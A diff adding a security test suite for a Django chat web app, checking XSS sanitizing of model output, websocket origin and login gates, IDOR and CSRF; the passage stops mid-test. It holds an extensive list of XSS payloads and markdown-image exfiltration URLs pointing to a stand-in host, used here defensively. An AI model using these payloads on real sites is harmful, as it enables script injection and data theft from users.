@@ -1,0 +1,1401 @@
+"""The security test matrix: each item of the issue, and the tests that fail if its hole opens.
+
+Item, then the tests that cover it (in this file unless a path is given):
+
+ 1  model output sanitized after markdown rendering (markdown-it, then nh3)
+      test_01_sanitizer_runs_after_markdown_rendering
+      test_01_markdown_layer_alone_emits_no_raw_html
+      tests/test_rendering.py::test_nothing_executable_survives
+ 2  `hx-*`, `on*`, `style`, `javascript:`/`data:`/`vbscript:` URLs (also mixed-case and
+    entity-encoded) stripped from model output
+      test_02_dangerous_markup_and_urls_are_stripped (each payload through the real pipeline,
+        and through one whose markdown stage lets raw HTML and any link through)
+ 3  XSS split across stream chunks stays inert
+      test_03_xss_split_across_stream_chunks_stays_inert (real websocket, simulator chunks)
+      test_03_lean_frames_are_appended_as_text_by_chat_js
+      tests/test_browser.py::test_model_output_is_sanitized_while_streaming_and_after
+ 4  markdown image exfiltration blocked
+      test_04_markdown_image_is_never_an_img (and the image in test_03's streamed reply)
+      tests/test_rendering.py::test_markdown_image_becomes_a_link_not_an_image
+      tests/test_deploy_security.py (CSP img-src)
+ 5  websocket with a foreign or missing Origin rejected
+      test_05_socket_with_a_foreign_or_missing_origin_is_rejected
+      tests/test_consumer.py::test_socket_from_a_foreign_origin_is_rejected
+ 6  anonymous websocket closed
+      test_06_anonymous_socket_is_closed
+      test_every_socket_needs_a_login
+      tests/test_consumer.py::test_anonymous_socket_is_closed
+ 7  IDOR on every conversation route (page, earlier messages, socket, stop, rename, delete,
+    exports, settings) and in the lists
+      test_07_every_conversation_route_is_covered (URL conf enumerated: a new route fails it)
+      test_07_foreign_conversation_is_404_and_unchanged
+      test_07_socket_to_a_foreign_conversation_is_closed
+      test_07_stop_and_hello_on_own_socket_never_reach_another_users_reply
+      test_07_lists_show_only_own_conversations
+      test_07_new_chat_with_another_users_client_message_id_opens_no_foreign_chat
+      tests/test_views.py::test_foreign_conversation_is_404_on_every_route
+      tests/test_views.py::test_earlier_messages_of_a_foreign_chat_are_404
+      tests/test_views.py::test_home_lists_only_my_conversations_newest_first
+      tests/test_consumer.py::test_foreign_socket_is_closed
+      tests/test_browser.py::test_other_user_gets_404_and_no_sidebar_entry
+ 8  frames of one user's conversation never reach another user's socket
+      test_08_frames_never_cross_users
+ 9  logout closes the user's open sockets
+      tests/test_consumer.py (logout closes sockets)
+10  CSRF on every state-changing view
+      test_10_no_view_is_csrf_exempt (URL conf enumerated)
+      test_10_every_post_without_a_token_is_refused (URL conf enumerated, admin included)
+      test_10_state_changing_posts_without_a_token_change_nothing
+      test_10_admin_actions_without_a_token_change_nothing
+11  the API key never appears in HTML, frames, logs, error messages or exports
+      test_11_api_key_never_leaks
+      test_11_api_key_with_a_trailing_newline_never_leaks (a key read from a secret file)
+12  image URLs: absolute http(s) only; the server never fetches a URL itself
+      test_12_image_urls_must_be_http_or_https
+      test_12_refused_image_urls_save_nothing_over_socket_and_form
+      test_12_server_never_fetches_image_urls
+      tests/test_consumer.py::test_bad_image_urls_are_refused_before_anything_is_saved
+13  cookie flags, session fixation
+      tests/test_deploy_security.py
+14  login throttling
+      tests/test_deploy_security.py
+15  admin review requires the permission and is audited
+      test_15_staff_without_review_permission_gets_nothing
+      test_15_reviewer_reads_but_cannot_change
+      test_15_reviews_are_audited
+      test_15_own_conversations_are_not_audited
+      tests/test_admin.py::test_reviewer_reads_conversations_but_cannot_change_them
+      tests/test_admin.py::test_staff_without_review_permission_sees_no_conversations
+16  a forged model name or parameter over the socket is refused
+      tests/test_consumer.py (forged model name or parameter)
+17  manage.py check --deploy
+      tests/test_deploy_security.py
+ -  every page and socket except the public ones requires a login
+      test_every_page_needs_a_login (URL conf enumerated, GET and POST)
+      test_every_socket_needs_a_login
+
+Decisions recorded here:
+
+- Image URLs (12): `http`/`https` only, absolute. Refused: `javascript:`, `data:`, `file:`,
+  `ftp:`, relative (`/x.png`) and protocol-relative (`//host/x.png`) URLs. Accepted: URLs
+  with credentials (`https://user:pw@host/x.png`) and loopback or private hosts: the server
+  never fetches an image URL, it only passes it to DashScope, which fetches it from its own
+  network, and the credentials are the sender's own, shown only to them (and to reviewers).
+- Audit (15): a `LogEntry` against the conversation with a flag of its own (`REVIEWED` in
+  conversations/admin.py, not ADDITION/CHANGE/DELETION: a review changes nothing) and a
+  plain-text change message ("Viewed for review", "Viewed message <pk> for review",
+  "Exported as JSON for review"), shown on the conversation's History page in the admin, and
+  the same line on the `qwenweb.audit` logger.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import logging
+import re
+import threading
+import time
+import urllib.request
+import uuid
+from html.parser import HTMLParser
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from asgiref.sync import sync_to_async
+from channels.testing import WebsocketCommunicator
+from django.conf import settings as django_settings
+from django.contrib.admin.models import LogEntry
+from django.contrib.auth import get_user_model
+from django.contrib.auth.models import Permission
+from django.contrib.contenttypes.models import ContentType
+from django.test import AsyncClient, Client
+from django.urls import URLPattern, URLResolver, get_resolver, resolve, reverse
+from django.urls.resolvers import RoutePattern
+from django.utils import timezone
+from markdown_it import MarkdownIt
+
+from conversations import chat, rendering
+from conversations.admin import REVIEWED
+from conversations.chat import conversation_create
+from conversations.dashscope.simulator import Scenario, ScenarioError, tokenize
+from conversations.models import Conversation, Message, MessageImage, ModelProfile
+from conversations.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
+from conversations.routing import websocket_urlpatterns
+from conversations.upstream import reset_clients
+from tests.conftest import APP_API_KEY
+from tests.ws_support import (
+    Transcript,
+    assistant_reply,
+    connect,
+    make_conversation,
+    make_user,
+    receive_until,
+    send_frame,
+    wait_for_status,
+)
+
+ROOT = Path(__file__).resolve().parent.parent
+
+# -- reading HTML as a browser would -----------------------------------------------------------
+
+# Elements that load, run or restyle something, never acceptable from model output anywhere.
+LIVE_TAGS = {
+    "script", "img", "iframe", "frame", "svg", "math", "object", "embed", "style", "link",
+    "meta", "base", "video", "audio", "source", "picture", "template",
+}  # fmt: skip
+SAFE_SCHEMES = {"", "http", "https", "mailto"}
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcset", "poster"}
+
+
+def url_scheme(value: str) -> str:
+    """The scheme a browser sees in an attribute value (entities already decoded): it drops
+    tabs and newlines anywhere and control characters and spaces at the ends."""
+    cleaned = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21))))
+    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", cleaned)
+    return match[1].lower() if match else ""
+
+
+class Elements(HTMLParser):
+    """Every element of some HTML (attribute values decoded), noting which are inside a
+    message body (`#message-<pk>-body`, where model output goes), and the bodies' text."""
+
+    def __init__(self, source: str):
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[str, list[tuple[str, str]], int | None]] = []
+        self.body_text: dict[int, str] = {}
+        self._body: int | None = None
+        self.feed(source)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        attrs = [(name, value or "") for name, value in attrs]
+        self.found.append((tag, attrs, self._body))
+        if tag == "div":
+            match = re.fullmatch(r"message-(\d+)-body", dict(attrs).get("id", ""))
+            if match:
+                self._body = int(match[1])
+                self.body_text.setdefault(self._body, "")
+
+    def handle_endtag(self, tag):
+        if tag == "div":
+            self._body = None  # no div is allowed inside a body, so its end is the body's
+
+    def handle_data(self, data):
+        if self._body is not None:
+            self.body_text[self._body] += data
+
+
+def assert_inert(source: str, *, model_output_only: bool = False) -> Elements:
+    """No element or attribute that runs, loads or restyles anything; inside message bodies
+    (or everywhere, for `model_output_only`) nothing but the sanitizer's allowlist."""
+    parsed = Elements(source)
+    for tag, attrs, body in parsed.found:
+        strict = model_output_only or body is not None
+        assert tag not in LIVE_TAGS, (tag, attrs, source)
+        if strict:
+            assert tag in ALLOWED_TAGS, (tag, attrs, source)
+        for name, value in attrs:
+            assert not name.startswith("on"), (tag, name, source)
+            assert name != "style", (tag, name, source)
+            if strict:
+                assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name, source)
+                assert not name.startswith(("hx-", "data-hx", "ws-")), (tag, name, source)
+            if name in URL_ATTRIBUTES:
+                assert url_scheme(value) in SAFE_SCHEMES, (tag, name, value, source)
+    return parsed
+
+
+# -- 1, 2. sanitized after rendering; dangerous markup and URLs stripped -----------------------
+
+
+def _permissive_markdown() -> MarkdownIt:
+    """markdown-it as it would be after a careless change: raw HTML on, every link allowed."""
+    md = MarkdownIt("commonmark", {"html": True, "linkify": False, "breaks": True})
+    md.enable(["table", "strikethrough"])
+    md.validateLink = lambda url: True
+    return md
+
+
+@pytest.fixture(params=["real", "permissive-markdown"])
+def pipeline(request, monkeypatch):
+    """render_markdown as it is, and with its markdown stage made permissive, so that only
+    the sanitizer after it stands between the payload and the page."""
+    render_markdown.cache_clear()
+    if request.param == "permissive-markdown":
+        monkeypatch.setattr(rendering, "_markdown", _permissive_markdown)
+    yield request.param
+    render_markdown.cache_clear()
+
+
+def test_01_sanitizer_runs_after_markdown_rendering(monkeypatch):
+    """Whatever markdown-it produces goes through nh3: with raw HTML switched on and every
+    link allowed in markdown-it, the output is still clean (so nh3 runs on markdown-it's
+    output, not before it, and not on the input only)."""
+    monkeypatch.setattr(rendering, "_markdown", _permissive_markdown)
+    render_markdown.cache_clear()
+    try:
+        source = (
+            '<script>alert(1)</script><img src=x onerror=alert(2)><p style="x" onclick="y">p</p>'
+            "\n\n[a](javascript:alert(3)) [b](data:text/html,<script>alert(4)</script>)"
+        )
+        raw = _permissive_markdown().render(source)
+        assert "<script>" in raw and 'href="javascript:' in raw, "the stand-in must be unsafe"
+        out = render_markdown(source)
+        assert_inert(out, model_output_only=True)
+        assert "<script" not in out and "javascript:" not in out and "onerror" not in out
+    finally:
+        render_markdown.cache_clear()
+
+
+def test_01_markdown_layer_alone_emits_no_raw_html():
+    """The first layer on its own: markdown-it with raw HTML off escapes tags, and renders an
+    image as a link (the sanitizer is the second layer, not the only one)."""
+    out = rendering._markdown().render(
+        "<script>alert(1)</script> <img src=x onerror=alert(2)> ![x](https://evil.example/i.png)"
+    )
+    assert "<script" not in out and "<img" not in out
+    assert "&lt;script&gt;" in out
+
+
+PAYLOADS = [
+    # raw HTML
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=x OnErRoR=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    '<a href="#" onclick="alert(1)">x</a>',
+    '<a href="#" OnMouseOver="alert(1)">x</a>',
+    '<div hx-get="/c/new/" hx-trigger="load">x</div>',
+    '<a hx-post="/c/new/" hx-trigger="load" data-hx-post="/c/new/">x</a>',
+    '<form hx-post="/c/new/"><button hx-delete="/x" hx-trigger="load">x</button></form>',
+    '<p style="background:url(https://evil.example/leak)">x</p>',
+    "<style>body{background:url(https://evil.example/leak)}</style>",
+    "<iframe src='https://evil.example/'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
+    '&#0000116&#0000058alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="jav\tascript:alert(1)">x</a>',
+    '<a href=" &#14; javascript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="VBScript:msgbox(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="https://ok.example/" style="position:fixed;inset:0">overlay</a>',
+    '<a href="https://ok.example/" target="_self" ping="https://evil.example/">x</a>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "<!--<img src=x onerror=alert(1)>-->",
+    # markdown links, autolinks, references, images
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](JAVASCRIPT:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
+    "[x](java&#x09;script:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](vbscript:msgbox(1))",
+    "[x](VbScRiPt:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](DATA:text/html,alert(1))",
+    "[x](file:///etc/passwd)",
+    '[x](https://ok.example/ "title\\" onclick=\\"alert(1)")',
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "[x][r]\n\n[r]: &#106;avascript:alert(1)",
+    "<javascript:alert(1)>",
+    "<JaVaScRiPt:alert(1)>",
+    "<vbscript:msgbox(1)>",
+    "<data:text/html,alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "![x](https://evil.example/leak?d=secret)",
+    '![x"onerror="alert(1)](https://evil.example/x.png)',
+    "| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
+]
+
+
+@pytest.mark.parametrize("source", PAYLOADS)
+def test_02_dangerous_markup_and_urls_are_stripped(pipeline, source):
+    out = render_markdown(source)
+    parsed = assert_inert(out, model_output_only=True)
+    hrefs = [
+        value for _tag, attrs, _body in parsed.found for name, value in attrs if name == "href"
+    ]
+    assert all(url_scheme(href) in SAFE_SCHEMES for href in hrefs), (source, out)
+
+
+# -- 3. XSS split across stream chunks stays inert ---------------------------------------------
+
+XSS_REPLY = (
+    "Look: <img src=x onerror=alert(1)> then <script>alert(2)</script> and "
+    '<a href="javascript:alert(3)" onclick="alert(4)">a</a> <div hx-get="/c/new/" '
+    'hx-trigger="load">h</div> <svg/onload=alert(5)> [y](JaVaScRiPt:alert(6)) '
+    "![z](https://evil.example/leak?d=secret) <img src=x\nonerror=alert(7)> and then "
+    + " ".join(f"word{i}" for i in range(20))
+    + " the end"
+)
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_03_xss_split_across_stream_chunks_stays_inert(app_simulator):
+    """Over the real ASGI app: the simulator streams the reply a word per chunk, so every tag
+    arrives in pieces. The lean `+` frames carry exactly the raw text (which chat.js appends as
+    a text node, see the next test); a tab that opens mid-reply gets the partial text inside
+    an escaped HTML render; the final render is sanitized markdown."""
+    token = uuid.uuid4().hex
+    assert len(tokenize(XSS_REPLY)) > 30
+    app_simulator.add_scenario(
+        Scenario(match=token, reply=XSS_REPLY, tokens_per_chunk=1, token_delay=0.03)
+    )
+    owner = await make_user("alice")
+    conversation = await make_conversation(owner)
+    ws, connected, _ = await connect(owner, conversation)
+    assert connected
+    await ws.send_to(text_data=send_frame(f"be naughty {token}"))
+    transcript = Transcript()
+    await receive_until(ws, transcript, lambda t: sum(f[0] == "+" for f in t.frames) >= 10)
+    # A second tab, mid-reply: its first view of the reply is an HTML render of partial text.
+    late, connected, _ = await connect(owner, conversation)
+    assert connected
+    late_transcript = Transcript()
+    await receive_until(late, late_transcript, lambda t: bool(t.frames))
+    await receive_until(ws, transcript, lambda t: "complete" in t.status.values(), within=20)
+    await receive_until(late, late_transcript, lambda t: "complete" in t.status.values())
+    reply = await assistant_reply(conversation)
+    assert reply.content == XSS_REPLY
+
+    lean = [f for f in transcript.frames if f[:1] == "+"]
+    assert transcript.text[reply.pk] == XSS_REPLY, "the + frames carry the raw text, whole"
+    assert len(lean) >= 8, "the reply should have come in many frames"
+    assert any(f.count("<") != f.count(">") for f in lean), "a tag should span frames"
+    for frames in (transcript.frames, late_transcript.frames):
+        for frame in frames:
+            if frame[:1] not in ("+", "~"):
+                assert_inert(frame)
+    snapshot = late_transcript.frames[0]
+    assert 'data-status="streaming"' in snapshot
+    partial = Elements(snapshot).body_text[reply.pk]
+    assert partial and XSS_REPLY.startswith(partial), "the partial text is shown as text"
+
+    final = transcript.frames[-1]
+    assert 'data-status="complete"' in final
+    body = assert_inert(final).body_text[reply.pk]
+    assert "<img src=x onerror=alert(1)>" in body, "raw HTML shows as text"
+    assert "<script>alert(2)</script>" in body
+    assert 'href="https://evil.example/leak?d=secret"' in final, "the image became a link"
+    await ws.disconnect()
+    await late.disconnect()
+
+
+def test_03_lean_frames_are_appended_as_text_by_chat_js():
+    """chat.js takes `+`/`~` frames away from htmx (preventDefault: htmx would swap them as
+    HTML) and appends their text as a text node, never through an HTML parser."""
+    source = (ROOT / "static/qwenweb/chat.js").read_text()
+    match = re.search(
+        r'addEventListener\("htmx:wsBeforeMessage", function \(event\) \{(.*?)\n  \}\);',
+        source,
+        re.S,
+    )
+    assert match, "the lean-frame handler moved: update this test"
+    handler = match[1]
+    assert 'marker !== "+" && marker !== "~"' in handler
+    assert "event.preventDefault()" in handler
+    assert "createTextNode(text)" in handler and "appendData(text)" in handler
+    for sink in (
+        "innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "DOMParser",
+        "createContextualFragment", "htmx.swap", "htmx.process", "eval(", "Function(",
+        "setHTMLUnsafe", "parseHTMLUnsafe",
+    ):  # fmt: skip
+        assert sink not in handler, sink
+    # Nowhere in the file is HTML built from a string, except clearing a container.
+    assert set(re.findall(r"innerHTML\s*=\s*([^;]+);", source)) <= {'""', "''"}
+    assert "insertAdjacentHTML" not in source and "outerHTML" not in source
+
+
+# -- 4. markdown image exfiltration ------------------------------------------------------------
+
+EXFIL = "https://evil.example/leak?d=secret"
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"![x]({EXFIL})",
+        f'![x]({EXFIL} "title")',
+        f"![x][r]\n\n[r]: {EXFIL}",
+        f"![x][]\n\n[x]: {EXFIL}",
+        f"[![x]({EXFIL})](https://ok.example/)",
+        f"| a |\n|---|\n| ![x]({EXFIL}) |",
+        f'<img src="{EXFIL}">',
+        f"<picture><source srcset={EXFIL}><img src={EXFIL}></picture>",
+        f'<video poster="{EXFIL}"></video>',
+        f'<p style="background:url({EXFIL})">x</p>',
+        f"![x](<{EXFIL}>)",
+    ],
+)
+def test_04_markdown_image_is_never_an_img(pipeline, source):
+    """No element that the browser would fetch by itself: at most a link (which needs a
+    click) or text. The CSP img-src half is in tests/test_deploy_security.py."""
+    out = render_markdown(source)
+    parsed = assert_inert(out, model_output_only=True)
+    for tag, attrs, _body in parsed.found:
+        for name, value in attrs:
+            if EXFIL in value:
+                assert (tag, name) == ("a", "href"), (tag, name, out)
+
+
+# -- 5, 6. the socket's gate: Origin and login -------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "origin",
+    [
+        None,
+        "http://evil.example",
+        "https://evil.example",
+        "http://localhost.evil.example",
+        "http://evil.example/localhost",
+        "http://localhost@evil.example",
+        "null",
+        "",
+        "file://",
+    ],
+)
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_05_socket_with_a_foreign_or_missing_origin_is_rejected(origin):
+    """Even with the owner's valid session (a cross-site page's socket carries the cookie):
+    only an Origin of an allowed host gets through."""
+    owner = await make_user("alice")
+    conversation = await make_conversation(owner)
+    ws, connected, _code = await connect(owner, conversation, origin=origin)
+    assert not connected, origin
+    good, connected, _ = await connect(owner, conversation, origin="http://localhost")
+    assert connected, "the owner's socket from the site itself must still connect"
+    await good.disconnect()
+
+
+async def _raw_socket(path: str, cookie: str | None):
+    from qwenweb.asgi import application
+
+    headers = [(b"host", b"localhost"), (b"origin", b"http://localhost")]
+    if cookie is not None:
+        headers.append((b"cookie", cookie.encode()))
+    communicator = WebsocketCommunicator(application, path, headers=headers)
+    connected, code = await communicator.connect(timeout=5)
+    if connected:
+        await communicator.disconnect()
+    return connected, code
+
+
+def _session_cookie(user) -> str:
+    client = Client()
+    client.force_login(user)
+    return f"sessionid={client.cookies['sessionid'].value}"
+
+
+def _logged_out_cookie(user) -> str:
+    client = Client()
+    client.force_login(user)
+    cookie = f"sessionid={client.cookies['sessionid'].value}"
+    client.logout()
+    return cookie
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_06_anonymous_socket_is_closed():
+    """No session, a forged one, a signed-out one, or an inactive user's: closed with 4403,
+    before anything is sent."""
+    owner = await make_user("alice")
+    conversation = await make_conversation(owner)
+    inactive = await make_user("ivan")
+    inactive_cookie = await sync_to_async(_session_cookie)(inactive)
+    await get_user_model().objects.filter(pk=inactive.pk).aupdate(is_active=False)
+    logged_out = await sync_to_async(_logged_out_cookie)(owner)
+    path = f"/ws/c/{conversation.id}/"
+    for cookie in [None, "sessionid=forged0123456789abcdefghijklmnopq", logged_out,
+                   inactive_cookie]:  # fmt: skip
+        connected, code = await _raw_socket(path, cookie)
+        assert (connected, code) == (False, 4403), cookie
+    owner_cookie = await sync_to_async(_session_cookie)(owner)
+    assert (await _raw_socket(path, owner_cookie))[0], "the owner's own session must connect"
+
+
+# -- the URL conf, walked ----------------------------------------------------------------------
+
+# Dummy values for path converters and regex groups, to build a URL for every pattern.
+DUMMY_UUID = "00000000-0000-4000-8000-000000000000"
+CONVERTER_DUMMIES = {"UUIDConverter": DUMMY_UUID, "SlugConverter": "x"}
+REGEX_DUMMIES = {"app_label": "conversations", "url": "no-such-page/"}
+
+
+def url_patterns():
+    """(route with dummy values, URL name with its namespace, converters) of every pattern."""
+
+    def walk(patterns, prefix: str, namespace: str, converters: dict):
+        for entry in patterns:
+            piece = build(entry.pattern)
+            found = {**converters, **getattr(entry.pattern, "converters", {})}
+            if isinstance(entry, URLResolver):
+                inner = ":".join(part for part in (namespace, entry.namespace) if part)
+                yield from walk(entry.url_patterns, prefix + piece, inner, found)
+            elif isinstance(entry, URLPattern):
+                name = entry.name or ""
+                if name and namespace:
+                    name = f"{namespace}:{name}"
+                yield "/" + prefix + piece, name, found
+
+    def build(pattern) -> str:
+        if isinstance(pattern, RoutePattern):
+            return re.sub(
+                r"<(?:\w+:)?(\w+)>",
+                lambda m: CONVERTER_DUMMIES.get(type(pattern.converters[m[1]]).__name__, "1"),
+                str(pattern),
+            )
+        regex = str(pattern).removeprefix("^").removesuffix("$")
+        return re.sub(r"\(\?P<(\w+)>[^)]*\)", lambda m: REGEX_DUMMIES[m[1]], regex)
+
+    found = list(walk(get_resolver().url_patterns, "", "", {}))
+    for path, _name, _converters in found:
+        resolve(path)  # a dummy that does not resolve means REGEX_DUMMIES needs a new entry
+    return found
+
+
+def conversation_url_names() -> set[str]:
+    return {name for _path, name, converters in url_patterns() if "conversation_id" in converters}
+
+
+# -- 7. IDOR -----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def alice(django_user_model):
+    return django_user_model.objects.create_user("alice", password="pw-alice")
+
+
+@pytest.fixture
+def bob(django_user_model):
+    return django_user_model.objects.create_user("bob", password="pw-bob")
+
+
+@pytest.fixture
+def alices_chat(alice):
+    conversation = conversation_create(owner=alice)
+    Conversation.objects.filter(pk=conversation.pk).update(title="Alice secret plans")
+    question = Message.objects.create(
+        conversation=conversation, role="user", content="alice-question-7f3"
+    )
+    MessageImage.objects.create(message=question, url="https://example.com/alice.png")
+    Message.objects.create(
+        conversation=conversation, role="assistant", content="alice-answer-9c1", model="qwen-plus"
+    )
+    conversation.refresh_from_db()
+    return conversation
+
+
+def snapshot(conversation: Conversation):
+    """What must not change when someone else pokes at a conversation."""
+    fresh = Conversation.objects.filter(pk=conversation.pk).first()
+    assert fresh is not None, "the conversation is gone"
+    return (
+        fresh.owner_id,
+        fresh.title,
+        fresh.model_id,
+        fresh.system_prompt_id,
+        list(fresh.messages.values_list("pk", "role", "content", "status")),
+        list(MessageImage.objects.filter(message__conversation=fresh).values_list("url")),
+    )
+
+
+def _other_enabled_model(conversation) -> int:
+    return ModelProfile.objects.enabled().exclude(pk=conversation.model_id).first().pk
+
+
+# Every conversation route, and how another user tries it: (method, suffix, data).
+IDOR_REQUESTS = {
+    "conversation": ("get", "", {}),
+    "conversation_messages": ("get", "?before=999999999", {}),
+    "conversation_rename": ("post", "", {"title": "pwned by bob"}),
+    "conversation_delete": ("post", "", {}),
+    "conversation_settings": ("post", "", {"model": "OTHER_MODEL"}),
+    "conversation_export_json": ("get", "", {}),
+    "conversation_export_md": ("get", "", {}),
+}
+SOCKET_ROUTES = {"ws/c/<uuid:conversation_id>/"}
+
+
+def test_07_every_conversation_route_is_covered():
+    """A new route that takes a conversation id makes this fail until IDOR_REQUESTS tries
+    it; the same for a new websocket route."""
+    assert conversation_url_names() == set(IDOR_REQUESTS)
+    assert {str(p.pattern) for p in websocket_urlpatterns} == SOCKET_ROUTES
+    for pattern in websocket_urlpatterns:
+        assert "conversation_id" in pattern.pattern.converters
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("htmx", [False, True], ids=["plain", "htmx"])
+@pytest.mark.parametrize("name", sorted(IDOR_REQUESTS))
+def test_07_foreign_conversation_is_404_and_unchanged(client, alices_chat, bob, name, htmx):
+    """bob, on alice's conversation: 404, exactly as for a conversation that does not exist,
+    nothing of hers in the answer, and nothing of hers changed."""
+    method, suffix, data = IDOR_REQUESTS[name]
+    data = {k: _other_enabled_model(alices_chat) if v == "OTHER_MODEL" else v
+            for k, v in data.items()}  # fmt: skip
+    before = snapshot(alices_chat)
+    client.force_login(bob)
+    headers = {"HX-Request": "true"} if htmx else {}
+    send = getattr(client, method)
+    nobodys = uuid.uuid4()
+    response = send(reverse(name, args=[alices_chat.id]) + suffix, data, headers=headers)
+    missing = send(reverse(name, args=[nobodys]) + suffix, data, headers=headers)
+    assert response.status_code == 404, name
+    assert missing.status_code == 404
+    body = response.content.decode()
+    assert body.replace(str(alices_chat.id), "ID") == missing.content.decode().replace(
+        str(nobodys), "ID"
+    ), "the answer must not tell an existing conversation from a missing one"
+    for secret in ("Alice secret plans", "alice-question-7f3", "alice-answer-9c1"):
+        assert secret not in body
+    assert snapshot(alices_chat) == before
+
+
+@pytest.mark.django_db
+def test_07_lists_show_only_own_conversations(client, alices_chat, bob):
+    """bob's home page, his own chat page (sidebar) and his earlier-messages partial name none
+    of alice's conversations, whatever `before` he passes. (There is no search outside the
+    admin; the admin's is item 15's.)"""
+    mine = conversation_create(owner=bob)
+    Message.objects.create(conversation=mine, role="user", content="bob-question")
+    client.force_login(bob)
+    last_of_alice = alices_chat.messages.order_by("pk").last().pk
+    pages = [
+        client.get("/"),
+        client.get(f"/c/{mine.id}/"),
+        client.get(f"/c/{mine.id}/messages/?before={last_of_alice + 1}"),
+        client.get(f"/c/{mine.id}/messages/?before=999999999"),
+    ]
+    for response in pages:
+        assert response.status_code == 200
+        page = response.content.decode()
+        for secret in (str(alices_chat.id), "Alice secret plans", "alice-question-7f3",
+                       "alice-answer-9c1", "alice.png"):  # fmt: skip
+            assert secret not in page, (response.wsgi_request.path, secret)
+    assert "bob-question" in pages[1].content.decode()
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_07_new_chat_with_another_users_client_message_id_opens_no_foreign_chat():
+    alice = await make_user("alice")
+    bob = await make_user("bob")
+    theirs = await make_conversation(alice)
+    message_id = uuid.uuid4()
+    await Message.objects.acreate(
+        conversation=theirs, role="user", content="alice-first", client_message_id=message_id
+    )
+    client = AsyncClient()
+    await client.aforce_login(bob)
+    response = await client.post("/c/new/", {"client_message_id": str(message_id)})
+    assert response.status_code == 302
+    assert str(theirs.id) not in response["Location"]
+    assert await Conversation.objects.filter(owner=bob).acount() == 1
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_07_socket_to_a_foreign_conversation_is_closed():
+    """bob cannot open alice's conversation's socket (so he cannot send, stop or continue
+    on it either), whatever his session; alice's data is untouched."""
+    alice = await make_user("alice")
+    bob = await make_user("bob")
+    staff = await make_user("sam")
+    await get_user_model().objects.filter(pk=staff.pk).aupdate(is_staff=True, is_superuser=True)
+    staff = await get_user_model().objects.aget(pk=staff.pk)
+    theirs = await make_conversation(alice)
+    before = await sync_to_async(snapshot)(theirs)
+    for intruder in (bob, staff):  # even a superuser has no socket on another's chat
+        ws, connected, code = await connect(intruder, theirs)
+        assert (connected, code) == (False, 4403), intruder.username
+    assert await sync_to_async(snapshot)(theirs) == before
+
+
+REPLY_A = "alice-words " + " ".join(f"a{i}" for i in range(80))
+REPLY_B = "bob-words " + " ".join(f"b{i}" for i in range(80))
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_07_stop_and_hello_on_own_socket_never_reach_another_users_reply(app_simulator):
+    """While alice's reply streams, bob (on his own socket, with his own reply streaming)
+    presses Stop, and sends a `hello` naming alice's reply: his reply stops, alice's finishes
+    whole, and bob's socket gets nothing of hers."""
+    app_simulator.add_scenario(Scenario(match="from-alice", reply=REPLY_A, token_delay=0.02))
+    app_simulator.add_scenario(Scenario(match="from-bob", reply=REPLY_B, token_delay=0.02))
+    alice, bob = await make_user("alice"), await make_user("bob")
+    hers, his = await make_conversation(alice), await make_conversation(bob)
+    ws_a, _, _ = await connect(alice, hers)
+    ws_b, _, _ = await connect(bob, his)
+    seen_a, seen_b = Transcript(), Transcript()
+    await ws_a.send_to(text_data=send_frame("from-alice"))
